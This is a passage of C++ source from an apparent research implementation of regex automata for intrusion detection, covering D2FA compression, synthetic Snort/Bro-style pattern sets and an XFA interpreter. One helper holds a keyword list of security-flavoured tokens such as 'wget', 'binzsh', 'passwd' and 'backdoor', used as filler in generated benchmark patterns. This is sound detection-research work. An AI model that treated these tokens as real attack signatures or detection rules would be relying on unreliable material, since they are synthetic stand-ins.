  // its own row (plus the start state), pick the already-processed state
  // with the highest row similarity whose chain is still under the bound.
  constexpr std::uint32_t kNoParent = UINT32_MAX;
  std::vector<std::uint32_t> parent(n, kNoParent);
  std::vector<std::uint32_t> chain(n, 0);
  std::vector<char> processed(n, 0);
  std::vector<std::uint32_t> row_copy;
  std::vector<std::pair<std::uint32_t, std::uint32_t>> freq;  // (count, target)
  for (const std::uint32_t s : order) {
    // Hot-neighborhood states stay dense (see D2faOptions::root_depth);
    // leaving parent unset makes the emit loop below write a root row.
    if (depth[s] < options.root_depth) {
      processed[s] = 1;
      continue;
    }
    const std::uint32_t* row = table + static_cast<std::size_t>(s) * ncols;
    row_copy.assign(row, row + ncols);
    std::sort(row_copy.begin(), row_copy.end());
    freq.clear();
    for (std::size_t i = 0; i < row_copy.size();) {
      std::size_t j = i;
      while (j < row_copy.size() && row_copy[j] == row_copy[i]) ++j;
      freq.emplace_back(static_cast<std::uint32_t>(j - i), row_copy[i]);
      i = j;
    }
    // Count desc, id asc: deterministic candidate order.
    std::sort(freq.begin(), freq.end(),
              [](const auto& a, const auto& b) {
                return a.first != b.first ? a.first > b.first : a.second < b.second;
              });
    if (freq.size() > options.candidates) freq.resize(options.candidates);
    bool start_listed = false;
    for (const auto& [count, cand] : freq) start_listed |= cand == start_;
    if (!start_listed) freq.emplace_back(0, start_);

    std::uint32_t best = kNoParent;
    std::uint32_t best_weight = 0;
    for (const auto& [count, cand] : freq) {
      if (cand == s || processed[cand] == 0) continue;
      if (chain[cand] >= options.max_chain) continue;
      std::uint32_t weight = 0;
      const std::uint32_t* crow = table + static_cast<std::size_t>(cand) * ncols;
      for (std::uint16_t c = 0; c < ncols; ++c) weight += row[c] == crow[c];
      if (weight > best_weight || (weight == best_weight && cand < best)) {
        best = cand;
        best_weight = weight;
      }
    }
    // A weak default is worse than a dense row: keep the row when the
    // exception count would exceed the threshold fraction of columns.
    const std::uint32_t exceptions = ncols - best_weight;
    if (best != kNoParent &&
        exceptions * 100 <= static_cast<std::uint64_t>(options.dense_threshold_pct) * ncols) {
      parent[s] = best;
      chain[s] = chain[best] + 1;
    }
    processed[s] = 1;
  }

  // Emit storage in state-id order (so artifacts are independent of the
  // BFS processing order).
  defaults_.resize(n);
  row_offsets_.assign(n + 1, 0);
  std::uint64_t chain_sum = 0;
  for (std::uint32_t s = 0; s < n; ++s) {
    const std::uint32_t* row = table + static_cast<std::size_t>(s) * ncols;
    if (parent[s] == kNoParent) {
      const auto root_idx = static_cast<std::uint32_t>(dense_rows_.size() / ncols);
      defaults_[s] = kRootFlag | root_idx;
      dense_rows_.insert(dense_rows_.end(), row, row + ncols);
      root_raw_.push_back(s);
      ++st.roots;
    } else {
      const std::uint32_t p = parent[s];
      defaults_[s] = p;
      const std::uint32_t* prow = table + static_cast<std::size_t>(p) * ncols;
      std::uint8_t code = 0;
      std::uint32_t count = 0;
      for (std::uint16_t c = 0; c < ncols; ++c) {
        if (row[c] == prow[c]) continue;
        code = std::max(code, width_code(zigzag(
                                  static_cast<std::int32_t>(row[c] - p))));
        ++count;
      }
      if (count > 0) {
        exc_.push_back(code);
        const std::uint32_t w = 1u << code;
        for (std::uint16_t c = 0; c < ncols; ++c) {
          if (row[c] == prow[c]) continue;
          exc_.push_back(static_cast<std::uint8_t>(c));
          store_le(exc_, zigzag(static_cast<std::int32_t>(row[c] - p)), w);
        }
      }
      exception_entries_ += count;
      max_chain_ = std::max(max_chain_, chain[s]);
      chain_sum += chain[s];
    }
    row_offsets_[s + 1] = static_cast<std::uint32_t>(exc_.size());
  }

  // Tag the dense-row targets in place (kTagRoot/kTagAccept; see d2fa.h).
  // Must run after the emit loop: tag_state reads the target's defaults_
  // entry, which is only final once every state has been emitted.
  for (std::uint32_t& t : dense_rows_) t = tag_state(t);

  st.max_chain = max_chain_;
  st.avg_chain = n > 0 ? static_cast<double>(chain_sum) / n : 0.0;
  st.exception_entries = exception_entries_;
  st.seconds = timer.seconds();
}

std::vector<std::uint32_t> D2fa::expand_table() const {
  const std::uint32_t n = state_count_;
  const std::uint16_t ncols = ncols_;
  std::vector<std::uint32_t> out(static_cast<std::size_t>(n) * ncols);
  // Expand in chain-length order so a parent's row is always materialized
  // before its children copy it.
  std::vector<std::uint32_t> chain(n, 0);
  for (std::uint32_t s = 0; s < n; ++s) {
    std::uint32_t len = 0;
    std::uint32_t cur = s;
    while ((defaults_[cur] & kRootFlag) == 0) {
      cur = defaults_[cur];
      ++len;
    }
    chain[s] = len;
  }
  std::vector<std::uint32_t> order(n);
  for (std::uint32_t s = 0; s < n; ++s) order[s] = s;
  std::stable_sort(order.begin(), order.end(), [&](std::uint32_t a, std::uint32_t b) {
    return chain[a] < chain[b];
  });
  for (const std::uint32_t s : order) {
    std::uint32_t* row = out.data() + static_cast<std::size_t>(s) * ncols;
    const std::uint32_t d = defaults_[s];
    if ((d & kRootFlag) != 0) {
      const std::uint32_t* src =
          dense_rows_.data() + static_cast<std::size_t>(d & ~kRootFlag) * ncols;
      for (std::uint16_t c = 0; c < ncols; ++c) row[c] = untag(src[c]);
      continue;
    }
    const std::uint32_t* prow = out.data() + static_cast<std::size_t>(d) * ncols;
    std::copy(prow, prow + ncols, row);
    const std::uint32_t lo = row_offsets_[s];
    const std::uint32_t hi = row_offsets_[s + 1];
    if (lo < hi) {
      const std::uint32_t w = 1u << exc_[lo];
      for (std::uint32_t p = lo + 1; p < hi; p += 1 + w)
        row[exc_[p]] = d + unzigzag(load_le(&exc_[p + 1], w));
    }
  }
  return out;
}

void D2fa::serialize(util::BinWriter& w) const {
  w.u32(state_count_);
  w.u32(start_);
  w.u32(accept_states_);
  w.u32(max_match_id_);
  w.u16(ncols_);
  w.u32(max_chain_);
  w.u64(exception_entries_);
  w.bytes(byte_to_col_.data(), byte_to_col_.size());
  w.pod_vec(defaults_);
  w.pod_vec(row_offsets_);
  w.pod_vec(exc_);
  // The artifact stores raw state ids; the in-memory tag bits (and the
  // root_raw_ map they need) are a load-time scan optimization, not format.
  std::vector<std::uint32_t> raw_rows(dense_rows_.size());
  for (std::size_t i = 0; i < dense_rows_.size(); ++i)
    raw_rows[i] = untag(dense_rows_[i]);
  w.pod_vec(raw_rows);
  w.pod_vec(accept_offsets_);
  w.pod_vec(accept_ids_);
}

bool D2fa::deserialize(util::BinReader& r, D2fa& out) {
  out.state_count_ = r.u32();
  out.start_ = r.u32();
  out.accept_states_ = r.u32();
  out.max_match_id_ = r.u32();
  out.ncols_ = r.u16();
  out.max_chain_ = r.u32();
  out.exception_entries_ = r.u64();
  r.bytes(out.byte_to_col_.data(), out.byte_to_col_.size());
  out.defaults_ = r.pod_vec<std::uint32_t>();
  out.row_offsets_ = r.pod_vec<std::uint32_t>();
  out.exc_ = r.pod_vec<std::uint8_t>();
  out.dense_rows_ = r.pod_vec<std::uint32_t>();
  out.accept_offsets_ = r.pod_vec<std::uint32_t>();
  out.accept_ids_ = r.pod_vec<std::uint32_t>();
  if (!r.ok()) return false;

  // Structural validation: a corrupt delta table must fail here, never in
  // the bounded-chain scan loop.
  const std::uint32_t n = out.state_count_;
  if (out.ncols_ == 0 || out.ncols_ > 256) return false;
  if (n == 0 || out.start_ >= n) return false;
  if (n > kTagIdMask) return false;  // tagged ids carry two metadata bits
  if (out.accept_states_ > n) return false;
  if (out.max_chain_ > 255) return false;
  for (const std::uint8_t col : out.byte_to_col_)
    if (col >= out.ncols_) return false;
  if (out.defaults_.size() != n) return false;
  if (out.row_offsets_.size() != n + 1u) return false;
  if (out.row_offsets_.front() != 0 || out.row_offsets_.back() != out.exc_.size())
    return false;
  if (out.dense_rows_.size() % out.ncols_ != 0) return false;
  const auto roots = static_cast<std::uint32_t>(out.dense_rows_.size() / out.ncols_);
  for (const std::uint32_t t : out.dense_rows_)
    if (t >= n) return false;

  std::uint64_t entries = 0;
  for (std::uint32_t s = 0; s < n; ++s) {
    const std::uint32_t lo = out.row_offsets_[s];
    const std::uint32_t hi = out.row_offsets_[s + 1];
    if (hi < lo || hi > out.exc_.size()) return false;
    const std::uint32_t d = out.defaults_[s];
    if ((d & kRootFlag) != 0) {
      // Roots carry their whole row densely; an exception row would be
      // unreachable dead weight, so reject it as corruption.
      if ((d & ~kRootFlag) >= roots || lo != hi) return false;
      continue;
    }
    if (d >= n) return false;
    if (lo == hi) continue;
    const std::uint8_t code = out.exc_[lo];
    if (code > 2) return false;
    const std::uint32_t w = 1u << code;
    if ((hi - lo - 1) % (1 + w) != 0) return false;
    std::int32_t prev_col = -1;
    for (std::uint32_t p = lo + 1; p < hi; p += 1 + w) {
      const std::uint8_t col = out.exc_[p];
      if (col >= out.ncols_ || static_cast<std::int32_t>(col) <= prev_col)
        return false;
      prev_col = col;
      if (d + unzigzag(load_le(&out.exc_[p + 1], w)) >= n) return false;
      ++entries;
    }
  }
  if (entries != out.exception_entries_) return false;

  // Every default chain must terminate at a root within the recorded
  // bound; memoized walk so the whole check is O(n).
  std::vector<std::uint32_t> chain(n, UINT32_MAX);
  std::vector<std::uint32_t> path;
  for (std::uint32_t s = 0; s < n; ++s) {
    if (chain[s] != UINT32_MAX) continue;
    path.clear();
    std::uint32_t cur = s;
    while (chain[cur] == UINT32_MAX && (out.defaults_[cur] & kRootFlag) == 0) {
      if (path.size() > out.max_chain_) return false;  // too long or cyclic
      path.push_back(cur);
      chain[cur] = 0;  // on-path marker; real value assigned below
      cur = out.defaults_[cur];
      if (std::find(path.begin(), path.end(), cur) != path.end()) return false;
    }
    std::uint32_t base = (out.defaults_[cur] & kRootFlag) != 0 ? 0 : chain[cur];
    for (auto it = path.rbegin(); it != path.rend(); ++it) chain[*it] = ++base;
    if (base > out.max_chain_) return false;
  }

  if (out.accept_offsets_.size() != out.accept_states_ + 1u) return false;
  if (out.accept_offsets_.front() != 0 ||
      out.accept_offsets_.back() != out.accept_ids_.size())
    return false;
  for (std::size_t i = 1; i < out.accept_offsets_.size(); ++i)
    if (out.accept_offsets_[i] < out.accept_offsets_[i - 1]) return false;
  for (const std::uint32_t id : out.accept_ids_)
    if (id > out.max_match_id_) return false;
  for (std::uint32_t s = 0; s < out.accept_states_; ++s)
    if (out.accept_offsets_[s] == out.accept_offsets_[s + 1]) return false;

  // Rebuild the in-memory scan form: the root row -> raw id map (each row
  // must be claimed by exactly one state — untag() depends on it), then tag
  // the raw dense-row targets (see d2fa.h).
  out.root_raw_.assign(roots, UINT32_MAX);
  for (std::uint32_t s = 0; s < n; ++s) {
    const std::uint32_t d = out.defaults_[s];
    if ((d & kRootFlag) == 0) continue;
    if (out.root_raw_[d & ~kRootFlag] != UINT32_MAX) return false;
    out.root_raw_[d & ~kRootFlag] = s;
  }
  for (const std::uint32_t s : out.root_raw_)
    if (s == UINT32_MAX) return false;
  for (std::uint32_t& t : out.dense_rows_) t = out.tag_state(t);
  return true;
}

}  // namespace mfa::dfa
