// Built-in pattern sets: analogs of the paper's seven rule sets (Table V).
//
// The paper's C-sets are proprietary and the exact Snort/Bro snapshots are
// not shipped here, so each set is synthesized to the structural recipe the
// paper gives (Sec. V-A):
//  - C sets  "use dot star and almost dot star patterns heavily, often
//             having multiple per pattern"
//  - S sets  "a mix of many almost dot star and long string matches with a
//             few dot star patterns", often anchored
//  - B set   "many unanchored string matches, with a small number of dot
//             stars mixed in"
// Literal content mixes security-flavoured tokens with seeded random words;
// sizes are tuned so NFA/DFA/MFA state counts land in the paper's regime
// (C7p: DFA orders of magnitude above MFA; B217p: DFA unconstructable).
// Generation is fully deterministic.
#pragma once

#include <string>
#include <vector>

#include "nfa/nfa.h"

namespace mfa::patterns {

struct PatternSet {
  std::string name;
  std::string description;
  std::vector<std::string> sources;            ///< pattern texts
  std::vector<nfa::PatternInput> patterns;     ///< parsed, ids 1..n
};

PatternSet make_b217p();
PatternSet make_c7p();
PatternSet make_c8();
PatternSet make_c10();
PatternSet make_s24();
PatternSet make_s31p();
PatternSet make_s34();

/// All seven sets in the paper's Table V order.
std::vector<PatternSet> builtin_sets();

/// Look up one set by name ("C7p", "S24", ...); aborts on unknown name.
PatternSet set_by_name(const std::string& name);

/// Parse raw pattern texts into a set with ids 1..n (helper for examples
/// and tests; aborts on parse errors).
PatternSet make_custom(std::string name, std::vector<std::string> sources);

}  // namespace mfa::patterns
