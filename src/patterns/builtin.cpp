#include "patterns/builtin.h"

#include <cstdio>
#include <cstdlib>

#include "regex/parser.h"
#include "util/rng.h"

namespace mfa::patterns {

namespace {

/// Deterministic word factory. Words are lowercase so they never collide
/// with regex metacharacters, and random enough that segment overlap
/// (suffix-of-A = prefix-of-B, or A inside B) is rare — mirroring real rule
/// content where decomposition succeeds for most boundaries.
class WordGen {
 public:
  explicit WordGen(std::uint64_t seed) : rng_(seed) {}

  std::string word(std::size_t lo, std::size_t hi) {
    return rng_.lower_string(rng_.between(lo, hi));
  }

  /// A security-flavoured token, occasionally, else a random word.
  std::string token(std::size_t lo, std::size_t hi) {
    static const char* kFlavor[] = {
        "cmdzexe",   "binzsh",   "passwd",   "uid0",     "selectz",  "unionall",
        "xp9090",    "shell32",  "wget",     "backdoor", "rootkit",  "payload",
        "overflow",  "exploit",  "admin",    "loginok",  "sessionid", "cookie",
    };
    if (rng_.chance(0.3)) return kFlavor[rng_.below(std::size(kFlavor))];
    return word(lo, hi);
  }

  util::Rng& rng() { return rng_; }

 private:
  util::Rng rng_;
};

PatternSet finish(std::string name, std::string description,
                  std::vector<std::string> sources) {
  PatternSet set;
  set.name = std::move(name);
  set.description = std::move(description);
  set.sources = std::move(sources);
  std::uint32_t id = 1;
  for (const auto& src : set.sources) {
    regex::ParseResult r = regex::parse(src);
    if (!r.ok()) {
      std::fprintf(stderr, "builtin set %s: bad pattern \"%s\": %s\n", set.name.c_str(),
                   src.c_str(), r.error->message.c_str());
      std::abort();
    }
    set.patterns.push_back(nfa::PatternInput{*std::move(r.regex), id++});
  }
  return set;
}

}  // namespace

PatternSet make_c7p() {
  // 11 regexes, multiple dot-stars per pattern: the worst-case vendor set.
  // Paper: NFA 295, DFA 244,366, MFA 104 — DFA ~2000x MFA.
  WordGen g(0xC7C7C7);
  std::vector<std::string> sources;
  for (int i = 0; i < 4; ++i)  // two dot-stars each
    sources.push_back(".*" + g.token(4, 6) + ".*" + g.word(4, 6) + ".*" + g.word(4, 6));
  for (int i = 0; i < 4; ++i)  // one dot-star each
    sources.push_back(".*" + g.token(4, 7) + ".*" + g.word(4, 7));
  sources.push_back(".*" + g.token(5, 8));  // plain strings
  sources.push_back(".*" + g.word(5, 8));
  sources.push_back(".*" + g.word(5, 8));
  return finish("C7p", "vendor set, heavy multi-dot-star (proprietary analog)",
                std::move(sources));
}

PatternSet make_c8() {
  // 8 regexes, a moderate mix of dot-star and almost-dot-star.
  // Paper: NFA 99, DFA 3,786, MFA 341.
  WordGen g(0xC8C8C8);
  std::vector<std::string> sources;
  for (int i = 0; i < 3; ++i)
    sources.push_back(".*" + g.token(4, 6) + ".*" + g.word(4, 6));
  for (int i = 0; i < 3; ++i)
    sources.push_back(".*" + g.token(4, 6) + "[^\\r\\n]*" + g.word(4, 6));
  sources.push_back(".*" + g.token(6, 9));
  sources.push_back(".*" + g.word(6, 9) + g.word(3, 4) + "?" + g.word(2, 3));
  return finish("C8", "vendor set, dot-star and almost-dot-star mix (analog)",
                std::move(sources));
}

PatternSet make_c10() {
  // 10 regexes with short segments and many dot-stars; the MFA ends up
  // smaller than the NFA. Paper: NFA 123, DFA 19,508, MFA 81.
  WordGen g(0xC10C10);
  std::vector<std::string> sources;
  for (int i = 0; i < 6; ++i)
    sources.push_back(".*" + g.token(3, 5) + ".*" + g.word(3, 5));
  for (int i = 0; i < 2; ++i)
    sources.push_back(".*" + g.word(3, 4) + ".*" + g.word(3, 4) + ".*" + g.word(3, 4));
  sources.push_back(".*" + g.token(4, 6));
  sources.push_back(".*" + g.word(4, 6));
  return finish("C10", "vendor set, short segments, many dot-stars (analog)",
                std::move(sources));
}

namespace {

/// Shared recipe for the Snort-style sets: anchored HTTP-ish headers with
/// almost-dot-star line constraints, long content strings, a few dot-stars.
PatternSet make_s_like(const char* name, std::uint64_t seed, int anchored_ads,
                       int unanchored_ads, int long_strings, int dot_stars,
                       const char* description) {
  WordGen g(seed);
  std::vector<std::string> sources;
  static const char* kMethods[] = {"GET ", "POST ", "HEAD ", "PUT "};
  static const char* kHeaders[] = {"User-Agent: ", "Host: ", "Cookie: ", "Referer: "};
  for (int i = 0; i < anchored_ads; ++i) {
    std::string src = "^";
    src += kMethods[g.rng().below(std::size(kMethods))];
    src += "[^\\r\\n]*";
    src += g.token(5, 9);
    // A second line-scoped segment occasionally; each such pattern adds a
    // persistent "first token seen on this line" bit to the DFA state, so
    // keep these rare or the S-set DFAs outgrow the paper's sizes.
    if (g.rng().chance(0.15)) {
      src += "[^\\r\\n]*";
      src += g.word(4, 7);
    }
    sources.push_back(std::move(src));
  }
  for (int i = 0; i < unanchored_ads; ++i) {
    std::string src = ".*";
    src += kHeaders[g.rng().below(std::size(kHeaders))];
    src += "[^\\r\\n]*";
    src += g.token(5, 9);
    sources.push_back(std::move(src));
  }
  for (int i = 0; i < long_strings; ++i)
    sources.push_back(".*" + g.token(6, 10) + g.word(6, 10));
  for (int i = 0; i < dot_stars; ++i)
    sources.push_back(".*" + g.token(5, 8) + ".*" + g.word(5, 8));
  return finish(name, description, std::move(sources));
}

}  // namespace

// The S recipes keep the unanchored multiplier count (dot-star +
// almost-dot-star patterns that each roughly double the DFA) low enough to
// land near the paper's DFA sizes; anchored patterns add states without
// multiplying.

PatternSet make_s24() {
  // Paper: 24 regexes, NFA 702, DFA 10,257, MFA 766.
  return make_s_like("S24", 0x524524, 13, 2, 7, 2,
                     "Snort-style: anchored HTTP + almost-dot-star (analog)");
}

PatternSet make_s31p() {
  // Paper: 40 regexes, NFA 1,436, DFA 39,977, MFA 1,584.
  return make_s_like("S31p", 0x531531, 24, 2, 12, 2,
                     "Snort-style with restored commented rules (analog)");
}

PatternSet make_s34() {
  // Paper: 34 regexes, NFA 1,003, DFA 12,486, MFA 1,499.
  return make_s_like("S34", 0x534534, 18, 2, 13, 1,
                     "Snort-style: anchored HTTP + long strings (analog)");
}

PatternSet make_b217p() {
  // 224 patterns: mostly unanchored strings plus enough multi-dot-star
  // regexes that plain DFA construction explodes past any practical cap.
  // Paper: NFA 2,553, DFA unconstructable, MFA 5,332.
  WordGen g(0xB217B217);
  std::vector<std::string> sources;
  for (int i = 0; i < 204; ++i)
    sources.push_back(".*" + g.token(4, 8) + g.word(4, 8));
  for (int i = 0; i < 12; ++i)
    sources.push_back(".*" + g.token(4, 6) + ".*" + g.word(4, 6) + ".*" + g.word(4, 6));
  for (int i = 0; i < 8; ++i)
    sources.push_back(".*" + g.token(4, 6) + "[^\\r\\n]*" + g.word(4, 6));
  return finish("B217p", "Bro-style: many strings + a few dot-stars (analog)",
                std::move(sources));
}

std::vector<PatternSet> builtin_sets() {
  std::vector<PatternSet> sets;
  sets.push_back(make_b217p());
  sets.push_back(make_c7p());
  sets.push_back(make_c8());
  sets.push_back(make_c10());
  sets.push_back(make_s24());
  sets.push_back(make_s31p());
  sets.push_back(make_s34());
  return sets;
}

PatternSet set_by_name(const std::string& name) {
  for (auto& set : builtin_sets()) {
    if (set.name == name) return set;
  }
  std::fprintf(stderr, "unknown builtin pattern set: %s\n", name.c_str());
  std::abort();
}

PatternSet make_custom(std::string name, std::vector<std::string> sources) {
  return finish(std::move(name), "custom", std::move(sources));
}

}  // namespace mfa::patterns
