#include "xfa/xfa.h"

#include <algorithm>

#include "util/timing.h"

namespace mfa::xfa {

namespace {

/// Lower one filter action (already phase-ordered) to XFA instructions.
/// `id` is the action's engine match id, used by the kExecAction delegate
/// for offset-tracking gap actions the native ops cannot express.
void lower_action(std::uint32_t id, const filter::Action& a,
                  std::vector<Instruction>& out) {
  using filter::kNone;
  if (a.set_slot != kNone || a.test_slot != kNone || a.min_gap > 0) {
    out.push_back({Op::kExecAction, static_cast<std::int32_t>(id), 0, 0});
    return;
  }
  if (a.clear != kNone) {
    if (a.test != kNone)
      out.push_back({Op::kClearIfBit, a.test, a.clear, 0});
    else
      out.push_back({Op::kBitClear, a.clear, 0, 0});
  }
  if (a.report != kNone) {
    if (a.ctr_test != kNone)
      out.push_back({Op::kReportIfCtr, a.ctr_test, a.ctr_threshold, a.report});
    else if (a.test != kNone)
      out.push_back({Op::kReportIfBit, a.test, a.report, 0});
    else
      out.push_back({Op::kReport, a.report, 0, 0});
  }
  if (a.set != kNone) {
    if (a.test != kNone)
      out.push_back({Op::kSetIfBit, a.test, a.set, 0});
    else
      out.push_back({Op::kBitSet, a.set, 0, 0});
  }
  if (a.ctr_incr != kNone) out.push_back({Op::kCtrIncr, a.ctr_incr, 0, 0});
}

}  // namespace

std::optional<Xfa> build_xfa(const std::vector<nfa::PatternInput>& patterns,
                             const BuildOptions& options, BuildStats* stats) {
  util::WallTimer timer;
  BuildStats local;
  BuildStats& st = stats != nullptr ? *stats : local;

  split::SplitResult sr = split::split_patterns(patterns, options.split);
  // Same geometry guard as build_mfa: a program past kMaxMemoryBits would
  // alias scratch bits at scan time.
  if (!sr.program.validate()) {
    st.seconds = timer.seconds();
    return std::nullopt;
  }
  std::vector<nfa::PatternInput> piece_inputs;
  piece_inputs.reserve(sr.pieces.size());
  for (const auto& piece : sr.pieces)
    piece_inputs.push_back(nfa::PatternInput{piece.regex, piece.engine_id});
  const nfa::Nfa piece_nfa = nfa::build_nfa(piece_inputs);
  std::optional<dfa::Dfa> d = dfa::build_dfa(piece_nfa, options.dfa, &st.dfa);
  if (!d.has_value()) {
    st.seconds = timer.seconds();
    return std::nullopt;
  }

  Xfa xfa;
  xfa.dfa_ = *std::move(d);
  xfa.program_ = sr.program;

  const std::uint32_t nstates = xfa.dfa_.state_count();
  const std::uint32_t naccept = xfa.dfa_.accepting_state_count();
  xfa.program_offsets_.assign(nstates + 1, 0);
  std::vector<std::uint32_t> scratch;
  for (std::uint32_t s = 0; s < nstates; ++s) {
    xfa.program_offsets_[s] = static_cast<std::uint32_t>(xfa.instructions_.size());
    if (s >= naccept) continue;
    const auto [first, last] = xfa.dfa_.accepts(s);
    scratch.assign(first, last);
    std::sort(scratch.begin(), scratch.end(),
              filter::ActionOrderLess{&sr.program.actions});
    for (const std::uint32_t id : scratch)
      lower_action(id, sr.program.actions[id], xfa.instructions_);
  }
  xfa.program_offsets_[nstates] = static_cast<std::uint32_t>(xfa.instructions_.size());

  st.seconds = timer.seconds();
  return xfa;
}

}  // namespace mfa::xfa
