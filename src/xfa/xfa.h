// XFA-like baseline (Smith et al. [24]; paper Sec. II-A and V).
//
// An XFA attaches small instruction programs to automaton *states*; the
// program of a state runs every time the state is entered. The paper could
// not construct true XFAs (their construction "is byzantine") and reported
// estimated throughput; we instead build a real executable XFA over the
// same decomposition: guard bits become scratch memory, per-state programs
// are sequences of bit/report instructions run through a general opcode
// interpreter. This is strictly more faithful than an estimate while
// keeping the defining cost: a per-state-entry program dispatch with an
// interpreted instruction stream (vs. MFA's single-compare accept test and
// specialized 4-field actions).
#pragma once

#include <cstdint>
#include <optional>
#include <vector>

#include "dfa/dfa.h"
#include "filter/engine.h"
#include "split/splitter.h"

namespace mfa::xfa {

enum class Op : std::uint8_t {
  kBitSet,       ///< set bit a
  kBitClear,     ///< clear bit a
  kSetIfBit,     ///< if bit a then set bit b
  kClearIfBit,   ///< if bit a then clear bit b
  kReport,       ///< report match id a
  kReportIfBit,  ///< if bit a then report match id b
  kCtrIncr,      ///< increment counter a
  kReportIfCtr,  ///< if counter a >= b then report (id in c)
  kExecAction,   ///< delegate filter action a (offset-tracking gap actions)
};

struct Instruction {
  Op op = Op::kReport;
  std::int32_t a = 0;
  std::int32_t b = 0;
  std::int32_t c = 0;
};

struct BuildOptions {
  split::Options split;
  dfa::BuildOptions dfa;
};

struct BuildStats {
  dfa::BuildStats dfa;
  double seconds = 0.0;
};

class Xfa {
 public:
  /// Stable engine label used by telemetry exporters and bench reports.
  static constexpr const char* kEngineName = "xfa";

  [[nodiscard]] const dfa::Dfa& character_dfa() const { return dfa_; }
  [[nodiscard]] const filter::Program& program() const { return program_; }
  [[nodiscard]] std::uint32_t memory_bits() const { return program_.memory_bits; }
  [[nodiscard]] std::uint32_t counters() const { return program_.counters; }

  /// Program of state s, empty for states without instructions.
  [[nodiscard]] std::pair<const Instruction*, const Instruction*> program(
      std::uint32_t state) const {
    return {instructions_.data() + program_offsets_[state],
            instructions_.data() + program_offsets_[state + 1]};
  }

  [[nodiscard]] std::size_t memory_image_bytes() const {
    return dfa_.memory_image_bytes(/*full_alphabet=*/false) +
           program_offsets_.size() * sizeof(std::uint32_t) +
           instructions_.size() * sizeof(Instruction);
  }

  [[nodiscard]] std::size_t context_bytes() const {
    return sizeof(std::uint32_t) +
           filter::Memory::context_bytes(program_.memory_bits, program_.counters,
                                         program_.position_slots);
  }

  // --- Engine/Context split (uniform API across all six engines) ---
  // No InlineContext API: XFA scratch memory routinely uses counters, which
  // never fit the 64-bit inline word, so the tiered flow table keeps XFA
  // contexts in its cold tier (see flow/tiered.h).

  using Context = filter::ScanContext;

  [[nodiscard]] Context make_context() const {
    return Context{dfa_.start(),
                   filter::Memory(program_.counters, program_.position_slots,
                                  program_.memory_bits)};
  }

  void reset(Context& ctx) const {
    ctx.state = dfa_.start();
    ctx.memory.reset();
  }

  /// The flow's current automaton state (profiler state-visit sampling).
  [[nodiscard]] std::uint32_t context_state(const Context& ctx) const {
    return ctx.state;
  }

  /// States of the underlying character DFA (the space context_state()
  /// indexes into).
  [[nodiscard]] std::uint32_t state_count() const { return dfa_.state_count(); }

  /// Feed a chunk through `ctx`. Thread-safe with distinct contexts.
  template <typename Sink>
  void feed(Context& ctx, const std::uint8_t* data, std::size_t size, std::uint64_t base,
            Sink&& sink) const {
    const std::uint32_t* table = dfa_.table_data();
    const std::uint8_t* cols = dfa_.byte_columns();
    const std::uint32_t ncols = dfa_.column_count();
    std::uint32_t s = ctx.state;
    for (std::size_t i = 0; i < size; ++i) {
      s = table[static_cast<std::size_t>(s) * ncols + cols[data[i]]];
      // The defining XFA cost: consult the per-state program on every entry.
      const auto [ip, end] = program(s);
      for (const auto* in = ip; in != end; ++in) execute(*in, base + i, ctx.memory, sink);
    }
    ctx.state = s;
  }

 private:
  template <typename Sink>
  void execute(const Instruction& in, std::uint64_t pos, filter::Memory& memory,
               Sink&& sink) const {
    switch (in.op) {
      case Op::kBitSet:
        memory.set_bit(in.a);
        break;
      case Op::kBitClear:
        memory.clear_bit(in.a);
        break;
      case Op::kSetIfBit:
        if (memory.test_bit(in.a)) memory.set_bit(in.b);
        break;
      case Op::kClearIfBit:
        if (memory.test_bit(in.a)) memory.clear_bit(in.b);
        break;
      case Op::kReport:
        sink(static_cast<std::uint32_t>(in.a), pos);
        break;
      case Op::kReportIfBit:
        if (memory.test_bit(in.a)) sink(static_cast<std::uint32_t>(in.b), pos);
        break;
      case Op::kCtrIncr:
        memory.increment(in.a);
        break;
      case Op::kReportIfCtr:
        if (memory.counter(in.a) >= static_cast<std::uint32_t>(in.b))
          sink(static_cast<std::uint32_t>(in.c), pos);
        break;
      case Op::kExecAction:
        filter::Engine(program_).on_match(static_cast<std::uint32_t>(in.a), pos, memory,
                                          sink);
        break;
    }
  }

  friend std::optional<Xfa> build_xfa(const std::vector<nfa::PatternInput>&,
                                      const BuildOptions&, BuildStats*);
  dfa::Dfa dfa_;
  filter::Program program_;  ///< kept for geometry and kExecAction delegates
  std::vector<std::uint32_t> program_offsets_;  // state_count + 1
  std::vector<Instruction> instructions_;
};

std::optional<Xfa> build_xfa(const std::vector<nfa::PatternInput>& patterns,
                             const BuildOptions& options = {}, BuildStats* stats = nullptr);

/// Back-compat wrapper over the Engine/Context split (engine pointer + one
/// owned Context).
class XfaScanner {
 public:
  explicit XfaScanner(const Xfa& xfa) : xfa_(&xfa), ctx_(xfa.make_context()) {}

  void reset() { xfa_->reset(ctx_); }

  template <typename Sink>
  void feed(const std::uint8_t* data, std::size_t size, std::uint64_t base, Sink&& sink) {
    xfa_->feed(ctx_, data, size, base, sink);
  }

  MatchVec scan(const std::uint8_t* data, std::size_t size) {
    reset();
    CollectingSink sink;
    feed(data, size, 0, sink);
    return std::move(sink.matches);
  }
  MatchVec scan(const std::string& data) {
    return scan(reinterpret_cast<const std::uint8_t*>(data.data()), data.size());
  }

 private:
  const Xfa* xfa_;
  Xfa::Context ctx_;
};

}  // namespace mfa::xfa
