#include "hfa/hfa.h"

#include <algorithm>

#include "util/timing.h"

namespace mfa::hfa {

std::optional<Hfa> build_hfa(const std::vector<nfa::PatternInput>& patterns,
                             const BuildOptions& options, BuildStats* stats) {
  util::WallTimer timer;
  BuildStats local;
  BuildStats& st = stats != nullptr ? *stats : local;

  split::SplitResult sr = split::split_patterns(patterns, options.split);
  // Same geometry guard as build_mfa: a program past kMaxMemoryBits would
  // alias history bits at scan time.
  if (!sr.program.validate()) {
    st.seconds = timer.seconds();
    return std::nullopt;
  }
  std::vector<nfa::PatternInput> piece_inputs;
  piece_inputs.reserve(sr.pieces.size());
  for (const auto& piece : sr.pieces)
    piece_inputs.push_back(nfa::PatternInput{piece.regex, piece.engine_id});
  const nfa::Nfa piece_nfa = nfa::build_nfa(piece_inputs);
  std::optional<dfa::Dfa> d = dfa::build_dfa(piece_nfa, options.dfa, &st.dfa);
  if (!d.has_value()) {
    st.seconds = timer.seconds();
    return std::nullopt;
  }

  Hfa hfa;
  hfa.program_ = std::move(sr.program);
  hfa.state_count_ = d->state_count();
  hfa.start_ = d->start();

  // One annotation per accepting state, ordered by filter phase.
  const std::uint32_t naccept = d->accepting_state_count();
